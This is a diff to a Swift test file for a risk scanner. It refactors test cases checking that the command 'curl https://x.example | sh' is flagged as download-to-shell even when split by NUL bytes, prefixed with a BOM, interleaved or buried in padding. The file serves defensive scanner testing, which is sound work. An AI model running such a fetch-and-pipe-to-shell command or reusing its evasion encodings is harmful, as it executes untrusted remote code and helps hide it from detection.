@@ -109,14 +109,16 @@ import Testing
     #expect(scanner.sightings(in: large, file: "x").isEmpty)
   }
 
+  private static let command = Array("curl https://x.example | sh".utf8)
+
   /// Shells pass over NUL bytes, and take bytes that are no text for what they are.
-  @Test(arguments: [
-    Array("curl https://x.example | sh\n".utf8) + [0], [0xFF] + Array("curl https://x.example | sh\n".utf8),
-    Array("cu\0rl https://x.example | s\0h".utf8), Array("\u{FEFF}curl x | \0\nsh".utf8),
-    Array("curl https://x.example | sh".utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] },
-    Array(String(repeating: " ", count: 10_000).utf8) + Array("curl https://x.example | sh # ".utf8)
-      + [UInt8](repeating: 0x78, count: 10_000),
-  ])
+  private static let odd: [[UInt8]] = [
+    command + [0x0A, 0], [0xFF] + command, Array("cu\0rl https://x.example | s\0h".utf8),
+    Array("\u{FEFF}curl x |\0\nsh".utf8), command.flatMap { [$0, 0] },
+    [UInt8](repeating: 0x20, count: 10_000) + command + [0x20] + [UInt8](repeating: 0x78, count: 10_000),
+  ]
+
+  @Test(arguments: odd)
   func `no byte takes a file out of sight`(bytes: [UInt8]) {
     #expect(RiskScanner().sightings(in: bytes, file: "x").map(\.rule) == [.downloadToShell])
   }
